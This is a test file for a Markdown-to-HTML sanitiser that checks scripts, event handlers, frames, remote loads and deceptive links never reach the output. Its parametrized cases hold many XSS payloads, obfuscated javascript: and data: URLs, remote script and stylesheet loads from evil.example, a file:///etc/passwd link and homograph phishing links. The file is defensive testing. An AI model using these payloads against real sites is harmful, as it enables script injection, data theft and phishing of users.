"""Prose is people's Markdown as safe HTML."""

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from browser.payloads import MUTATIONS
from built import handlers, loaded, parse
from drillbook.files.markdown import too_costly
from drillbook.pages import prose

# Written down again on purpose: a tag that is added there has to be thought about here.
TAGS = frozenset(
    [
        "a",
        "abbr",
        "b",
        "blockquote",
        "br",
        "code",
        "dd",
        "del",
        "details",
        "div",
        "dl",
        "dt",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "kbd",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
        *("caption", "ins", "mark", "samp", "tfoot", "var"),
    ]
)
ATTRIBUTES = {
    **{f"h{level}": {"id"} for level in range(1, 7)},
    "a": {"href", "title", "rel", "id"},
    "ol": {"start"},
    "th": {"align", "colspan", "rowspan"},
    "td": {"align", "colspan", "rowspan"},
    "details": {"open"},
}
OWN_ATTRIBUTES = {
    "a": {"class"},
    "blockquote": {"class"},
    "p": {"class"},
    "div": {"class", "id"},
    "span": {"role", "aria-label"},
}
"""What the page writes around alerts, notes and ticks."""

OWN_CLASSES = re.compile(
    r"(db-alert db-alert--(note|tip|important|warning|caution)|db-alert__kind|db-footnote|db-note"
    r"|db-picture)?"
)
SCROLLED = (
    '<div class="db-scroll" tabindex="0" role="region" aria-label="Table">'
    '<table class="db-table">'
)
"""What stands around each table; nobody else may write it."""

PAGE, PICTURE = "../playbooks/a.html#text-b", prose.Picture("../media/0a.png", 600, 400)
IMAGE = {"src", "alt", "title", "width", "height"}

SCHEMES = {"http", "https", "mailto", "tel"}


def nowhere(_link: str) -> str:
    """Resolve no link at all."""
    return ""


def shown(text: str) -> str:
    """Return the HTML of a text whose relative links lead nowhere."""
    return str(prose.html(text, nowhere))


def check_safe(html: str) -> None:
    """Hold HTML against the list of what may be in it, with a parser of its own."""
    document = parse(html.replace(SCROLLED, "<table>"))
    for element in document.elements:
        assert element.tag in TAGS | OWN_ATTRIBUTES.keys()
        allowed = ATTRIBUTES.get(element.tag, set()) | OWN_ATTRIBUTES.get(
            element.tag, set()
        )
        assert set(element.attributes) <= allowed, element
        assert OWN_CLASSES.fullmatch(element.attributes.get("class", "")), element
        assert element.attributes.get("id", "text-").startswith("text-"), element
        link = re.sub(r"[\x00-\x20]", "", element.attributes.get("href", ""))
        assert (
            not (scheme := re.match(r"([^/?#]*?):", link))
            or scheme[1].lower() in SCHEMES
        ), element
    assert not handlers(document)
    assert not list(loaded(document))


def test_markdown_becomes_html() -> None:
    """Headings, lists, tables, fenced blocks and definition lists are what people write."""
    text = (
        "## Two\n\n1. one\n2. *two*\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n<x>\n```\n\nTerm\n: "
        "  Meaning\n"
    )
    tags = [element.tag for element in parse(shown(text)).elements]
    assert {
        "h2",
        "ol",
        "li",
        "em",
        "table",
        "th",
        "td",
        "pre",
        "code",
        "dl",
        "dt",
        "dd",
    } <= set(tags)
    assert "&lt;x&gt;" in shown(text)


@pytest.mark.parametrize(
    "text",
    [
        "<script>window.pwned=1</script>",
        "- [ ] <script>window.pwned=1</script>",
        "~~<img src=x onerror=window.pwned=1>~~",
        "> [!WARNING]\n> <img src=x onerror=window.pwned=1>",
        '!!! note "<img src=x onerror=window.pwned=1>"\n    <script>window.pwned=1</script>',
        '=== "<svg onload=window.pwned=1>"\n    a',
        "a[^<img src=x onerror=window.pwned=1>]\n\n[^<img src=x onerror=window.pwned=1>]: b",
        '<sup class="footnote-reference"><a href="#x&quot; onclick=window.pwned=1">1</a></sup>',
        '<div class="footnote-definition" id="x&quot; onclick=&quot;window.pwned=1">a</div>',
        '<blockquote class="markdown-alert-note evil" onclick="window.pwned=1">a</blockquote>',
        "<input type=checkbox onclick=window.pwned=1 autofocus onfocus=window.pwned=1>",
        '<td style="text-align: expression(window.pwned=1)">a</td>',
        "https://evil.example/<img src=x onerror=window.pwned=1>",
        'https://e.example/"onmouseover=window.pwned=1',
        "javascript:www.e.example ftp://www.e.example",
        "<cluster-id onclick=window.pwned=1> <x-y><img src=x onerror=window.pwned=1></x-y>",
        "<a-b\n<img src=x onerror=window.pwned=1>>",
        "a <script src=//evil.example/x.js></script> b",
        "<SCRIPT>\n\nwindow.pwned=1\n\n</SCRIPT>",
        '<img src=x onerror="window.pwned=1">',
        '<p onclick="window.pwned=1">x</p>',
        "<svg><script>window.pwned=1</script><a xlink:href='javascript:1'>x</a></svg>",
        "<svg/onload=window.pwned=1>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
        *MUTATIONS,
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc='<script>window.pwned=1</script>'></iframe>",
        "<object data=x></object><embed src=x>",
        (
            "<form action=https://evil.example><input name=a><button"
            " formaction=javascript:1>x</button></form>"
        ),
        '<style>@import "https://evil.example/x.css";</style>',
        '<p style="background:url(https://evil.example/x)">x</p>',
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>",
        "![x](https://evil.example/x.png)",
        "<video poster=https://evil.example/x src=y></video>",
        '<a href="https://example.com" ping="https://evil.example" target=_top onfocus=1>x</a>',
        "<details open ontoggle=window.pwned=1>x</details>",
        "<!-- <img src=x onerror=1> -->",
        "<noscript><p title='</noscript><img src=x onerror=1>'>",
        "<textarea><img title='</textarea><img src=x onerror=1>'></textarea>",
        '<h2 id="__search">x</h2>',
        '<h2 id="matrix">x</h2>',
        "## Title {: #matrix onclick=1 }",
        "[x]: https://example.com 'title\" onclick=1'\n\n[x]",
    ],
)
def test_nothing_of_an_author_can_run_load_or_disguise_itself(text: str) -> None:
    """Scripts, handlers, styles, frames, forms, images and foreign ids do not come through."""
    check_safe(shown(text))


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java&#10;script:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
        "javascript&colon;alert(1)",
        "javascript://example.com/%0aalert(1)",
        "\x01javascript:alert(1)",
        "&#1;javascript:alert(1)",
        " javascript:alert(1)",
        "vbscript:x",
        "data:text/html;base64,PHNjcmlwdD4=",
        "file:///etc/passwd",
        "blob:https://example.com/x",
        "intent://x#Intent;end",
    ],
)
@pytest.mark.parametrize(
    "form", ["[x]({})", "[x](<{}>)", "<a href='{}'>x</a>", "[x]\n\n[x]: {}", "<{}>"]
)
def test_link_of_another_scheme_is_no_link(link: str, form: str) -> None:
    """No disguise makes a link of a script, a file or data."""
    html = shown(form.format(link))
    assert not [e for e in parse(html).all("a") if "href" in e.attributes], html
    check_safe(html)


@pytest.mark.parametrize(
    "link", ["\\\\evil.example", "/\\evil.example", "/etc/passwd", "../../../x.html"]
)
def test_link_out_of_the_site_without_a_scheme_is_no_link(link: str) -> None:
    """A link to another host says so with its scheme."""
    html = shown(f"<a href='{link}'>x</a>")
    assert not [e for e in parse(html).all("a") if "href" in e.attributes], html


@pytest.mark.parametrize(
    "link", ["https://example.com/a?b=1#c", "mailto:ada@example.com", "tel:+15550100"]
)
def test_link_to_outside_stays_and_tells_the_other_side_nothing(link: str) -> None:
    """A plain link to the web, to a mailbox or a phone is kept."""
    (anchor,) = parse(shown(f"[x]({link})")).all("a")
    assert anchor.attributes == {"href": link, "rel": "noopener noreferrer"}


@pytest.mark.parametrize(
    "text", ["{{7*7}}", "{% raw %}", "{# x #}", "`{{ config }}`", "${7*7}"]
)
def test_text_is_never_a_template(text: str) -> None:
    """Braces come out as they went in."""
    assert parse(shown(text)).text.strip() == text.strip("`")


def test_link_that_leads_nowhere_keeps_its_text() -> None:
    """No word is lost with a link."""
    document = parse(shown("see [the plan](missing.md)"))
    assert document.text == "see the plan"
    assert "href" not in document.all("a")[0].attributes


def test_headings_are_told_as_plain_text() -> None:
    """The table of contents has the words of a heading without its markup."""
    html = prose.html(
        "## A *b* `<c>` & d\n\n# Not this\n\n### Nor this\n\n## A b\n", nowhere
    )
    assert [(h.title, h.level) for h in prose.headings(html)] == [
        ("A b <c> & d", 2),
        ("A b", 2),
    ]
    assert len({h.id for h in prose.headings(html)}) == 2


@pytest.mark.parametrize(
    "text", ["## Überblick", "## 概要\n\n## 手順", "<h2>raw</h2>", "## !!!"]
)
def test_every_heading_has_an_id_of_its_own(text: str) -> None:
    """Every line of a table of contents leads to its heading, whatever the language."""
    ids = [heading.id for heading in prose.headings(prose.html(text, nowhere))]
    assert all(ids)
    assert len(set(ids)) == len(ids)


MARKUP = st.sampled_from(
    [
        "<script>",
        "</script>",
        "<img src=x onerror=a>",
        "<a href=",
        "'javascript:a'",
        "<svg>",
        "</svg>",
        "<math>",
        "<style>",
        "<h2 id=x>",
        "</h2>",
        "<table>",
        "<td>",
        "<details ontoggle=a>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?x",
        "?>",
        *(
            "[",
            "](",
            ")",
            "![",
            "`",
            "```\n",
            "~~~\n",
            "*",
            "_",
            "# ",
            "## ",
            "> ",
            "- ",
            "1. ",
            "|",
            "\n|-|-|\n",
            "\n\n",
            "\n",
            "    ",
        ),
        *(
            "&lt;",
            "&#106;",
            "&colon;",
            "\\",
            "\t",
            "\x00",
            "\x0b",
            "\x1c",
            "\x02",
            "\x03",
            "wzxhzdk:0",
            "klzzwxh:0001",
            "{{7*7}}",
        ),
        "javascript:",
        "data:text/html,",
        "//evil.example",
        "https://a.b/",
        "[x]: ",
        "\n:   ",
        '"',
        "'",
        ">",
        "<",
        "=",
        " ",
    ]
)
TEXTS = st.lists(st.one_of(MARKUP, st.text(max_size=4)), max_size=40).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(TEXTS)
def test_whatever_is_written_only_allowed_tags_and_attributes_come_out(
    text: str,
) -> None:
    """For any text that the loader lets through, the HTML holds nothing but what is on the list."""
    if too_costly("content/pages/a.md", text, 1) is None:
        check_safe(shown(text))


@settings(max_examples=100, deadline=None)
@given(TEXTS)
def test_resolved_links_and_pictures_are_as_safe_as_others(text: str) -> None:
    """Whatever leads into the site, nothing is loaded but the picture that the site has."""
    if too_costly("content/pages/a.md", text, 1) is None:
        html = str(prose.html(text, lambda _link: PAGE, pictures=lambda _link: PICTURE))
        pictures = parse(html).all("img")
        assert {p.attributes["src"] for p in pictures} <= {PICTURE.uri}
        assert all(set(p.attributes) <= IMAGE for p in pictures)
        check_safe(re.sub(r"<img [^>]*>", "", html))


def test_table_is_scrolled_in_itself() -> None:
    """What is wider than the page is reached with the keyboard too, and leaves the page as wide as
    it is.
    """
    html = shown("| a | b |\n|---|---|\n| 1 | 2 |\n\nThen.\n")
    assert html.count(SCROLLED) == html.count("</table></div>") == 1
    assert html.endswith("<p>Then.</p>")


def test_link_that_leads_nowhere_says_nothing_of_where_it_leads() -> None:
    """HTML allows no relation without an address."""
    assert shown("[gone](gone.md)") == "<p><a>gone</a></p>"


@pytest.mark.parametrize(
    ("text", "told", "address"),
    [
        (
            "[the bank](https://bank.example@evil.example/)",
            "the bank (leads to evil.example)",
            "https://evil.example/",
        ),
        (
            "<https://bank.example@evil.example/>",
            "https://bank.example@evil.example/ (leads to evil.example)",
            "",
        ),
        (
            "<a href='https://bank.example@evil.example/'>the bank</a>",
            "the bank (leads to evil.example)",
            "",
        ),
        (
            "[a][b]\n\n[b]: https://bank.example@evil.example/",
            "a (leads to evil.example)",
            "",
        ),
        (
            "[https://bank.example](https://evil.example/)",
            "https://bank.example (leads to evil.example)",
            "",
        ),
        (
            "[**bank**.example](https://evil.example/)",
            "bank.example (leads to evil.example)",
            "",
        ),
        (
            "[`bank.example`](https://evil.example/)",
            "bank.example (leads to evil.example)",
            "",
        ),
        (
            "[bank](https://evil.example/ 'https://bank.example')",
            "bank (leads to evil.example)",
            "",
        ),
        (
            "[b\u0430nk.example](https://bank.example/)",
            "b\u0430nk.example (leads to bank.example)",
            "",
        ),
        (
            "[x](https://b\u0430nk.example/)",
            "x (leads to xn--bnk-6cd.example)",
            "https://xn--bnk-6cd.example/",
        ),
        (
            "[x](https://bank.example\\@evil.example/)",
            "x (leads to evil.example)",
            "https://evil.example/",
        ),
        (
            "[x](https://%65vil.example/)",
            "x (leads to evil.example)",
            "https://evil.example/",
        ),
        (
            "[x](https://evil.example./)",
            "x (leads to evil.example.)",
            "https://evil.example./",
        ),
    ],
)
def test_link_whose_words_or_address_hide_its_host_says_it(
    text: str, told: str, address: str
) -> None:
    """Beside the link stands the host that a browser asks."""
    document = parse(shown(text))
    (anchor,) = document.all("a")
    assert document.text == told
    assert not address or anchor.attributes["href"] == address
    assert "@" not in anchor.attributes["href"]


@pytest.mark.parametrize(
    "link",
    [
        "//evil.example",
        "https:/evil.example",
        "https:evil.example",
        "https:\\\\evil.example",
        "https:///evil.example",
        "https://%00.example/",
        "https://\u202eexample/",
        "https://a\u200b.example/",
    ],
)
@pytest.mark.parametrize("form", ["[x](<{}>)", "<a href='{}'>x</a>"])
def test_address_that_browsers_and_people_read_differently_is_no_link(
    link: str, form: str
) -> None:
    """Its words stay, and lead nowhere."""
    assert not [
        e for e in parse(shown(form.format(link))).all("a") if "href" in e.attributes
    ]


def test_hidden_characters_are_shown_as_what_they_are() -> None:
    """In words, in code and in headings, wherever they stand."""
    html = shown("## A\u202eB\n\nCall\u200b `it\u2066` \U0001f468\u200d\U0001f469\n")
    assert (
        parse(html).text == "A\\u202eB Call\\u200b it\\u2066 \U0001f468\u200d\U0001f469"
    )


@pytest.mark.parametrize(
    "text",
    [
        '[x](https://e.x "<table><img src=x onerror=window.pwned=1>")',
        '[x](https://e.x "</table></div><script>window.pwned=1</script>")',
        "[x](https://e.x '<a rel=\"noopener noreferrer\">')",
        '![<table>](x "<table>")',
        "<h2 id='<table>'><table></h2>",
        "`<table>` <kbd>&lt;table&gt;</kbd>",
    ],
)
def test_what_only_looks_like_a_tag_stays_text(text: str) -> None:
    """No region is put around a table that is none, in an attribute least of all."""
    html = shown(text)
    check_safe(html)
    assert html.count(SCROLLED) == len(parse(html).all("table"))


def test_picture_that_the_book_does_not_have_is_told_in_words() -> None:
    """Nothing vanishes without a word."""
    assert (
        shown("![the plan](x.png) <img src=y.png>")
        == "<p><em>the plan</em> <em>y.png</em></p>"
    )


_SHOWN = '<img src="../media/0a.png" alt="{}" width="{}" height="{}">'
_ELSEWHERE = (
    '<a href="https://x.example/a.png" rel="noopener noreferrer"><em>{}</em></a>'
)
_PAGE = f'<a href="{PAGE}" rel="noopener noreferrer">{{}}</a>'
_LINKED = '<a class="db-picture" href="../media/0a.png">{}</a>'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("![the plan](x.png)", _LINKED.format(_SHOWN.format("the plan", 600, 400))),
        ("![](x.png)", _SHOWN.format("", 600, 400)),
        (
            "[![a](x.png)](tel:1)",
            '<a href="tel:1" rel="noopener noreferrer">'
            + _SHOWN.format("a", 600, 400)
            + "</a>",
        ),
        ("<img src=x.png width=300>", _SHOWN.format("", 300, 200)),
        ("<img src=x.png width=300px height=9>", _SHOWN.format("", 300, 200)),
        ("<img src=x.png width=50%>", _SHOWN.format("", 600, 400)),
        ("<img src=x.png width=0>", _SHOWN.format("", 600, 400)),
        ("<img src=x.png width=99999>", _SHOWN.format("", 600, 400)),
        (
            "<img src=x.png onload=alert(1) srcset=https://x.example/a>",
            _SHOWN.format("", 600, 400),
        ),
        (
            '!["><b>](x.png)',
            _LINKED.format(_SHOWN.format("&#34;&gt;&lt;b&gt;", 600, 400)),
        ),
        (
            "<img src=x.png alt='\"><script>'>",
            _LINKED.format(_SHOWN.format("&#34;&gt;&lt;script&gt;", 600, 400)),
        ),
    ],
)
def test_picture_of_the_book_keeps_its_words_and_its_size(text: str, html: str) -> None:
    """A page keeps room for a picture before it has come, in the width that its author wants."""
    found = prose.html(text, nowhere, pictures=lambda _link: PICTURE)
    assert found in {f"<p>{html}</p>", html}


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (
            "![the plan](https://x.example/a.png)",
            f"<p>{_ELSEWHERE.format('the plan')}</p>",
        ),
        (
            "![https://good.example](https://x.example/a.png)",
            f"<p>{_ELSEWHERE.format('https://good.example')} (leads to x.example)</p>",
        ),
        ("![a](//x.example/a.png)", "<p><em>a</em></p>"),
        ("![a](data:image/png;base64,AA)", "<p><em>a</em></p>"),
        ("![a](javascript:alert(1))", "<p><em>a</em></p>"),
        ("![the manual](manual.pdf)", f"<p>{_PAGE.format('<em>the manual</em>')}</p>"),
        (
            "[![a](https://x.example/a.png)](manual.pdf)",
            f"<p>{_PAGE.format('<em>a</em>')}</p>",
        ),
    ],
)
def test_picture_of_another_host_is_a_link(text: str, html: str) -> None:
    """Nothing is asked of it before somebody clicks."""
    assert prose.html(text, lambda link: PAGE if link == "manual.pdf" else "") == html


@pytest.mark.parametrize(
    ("text", "shown_as"),
    [
        ("- [ ] a", '<span role="img" aria-label="open">☐</span>'),
        ("- [x] a", '<span role="img" aria-label="done">☑</span>'),
        ("> [!TIP]\n> a", '<blockquote class="db-alert db-alert--tip">'),
        ('!!! danger "Stop"\n    a', "<strong>Caution</strong>"),
        (
            "a[^n]\n\n[^n]: b",
            '<sup><a href="#text-note-n" rel="noopener noreferrer">1</a></sup>',
        ),
        ("a[^n]\n\n[^n]: b", '<div class="db-footnote" id="text-note-n"><sup>1</sup>'),
        ("| a |\n|--:|\n| 1 |", '<td align="right">1</td>'),
        ("ssh <host-name>", "ssh &lt;host-name&gt;"),
        ("`<host-name>`", "<code>&lt;host-name&gt;</code>"),
        ("at www.example.com", '<a href="http://www.example.com"'),
        ("to ops@example.com", '<a href="mailto:ops@example.com"'),
        (":fire: `:fire:`", "<p>🔥 <code>:fire:</code></p>"),
        (
            "```mermaid\na-->b\n```",
            "which this page does not draw:</p><pre><code>a--&gt;b\n",
        ),
    ],
)
def test_what_people_write_on_github_is_shown(text: str, shown_as: str) -> None:
    """Ticks, alerts, notes, aligned cells, bare addresses and words to fill in."""
    assert shown_as in shown(text)


@pytest.mark.parametrize(
    ("text", "leads_to"),
    [
        ("[https://bank.example](mailto:a@evil.example)", "(leads to a@evil.example)"),
        ("[a@bank.example](mailto:a@evil.example)", "(leads to a@evil.example)"),
        ("[bank.example](tel:+15550100)", "(leads to +15550100)"),
        ("[a@bank.example](mailto:a@bank.example)", ""),
        ("[Ada](mailto:a@bank.example)", ""),
    ],
)
def test_a_mailbox_says_where_it_leads(text: str, leads_to: str) -> None:
    """Where its words name another host."""
    assert shown(text).partition("</a>")[2].removesuffix("</p>").strip() == leads_to
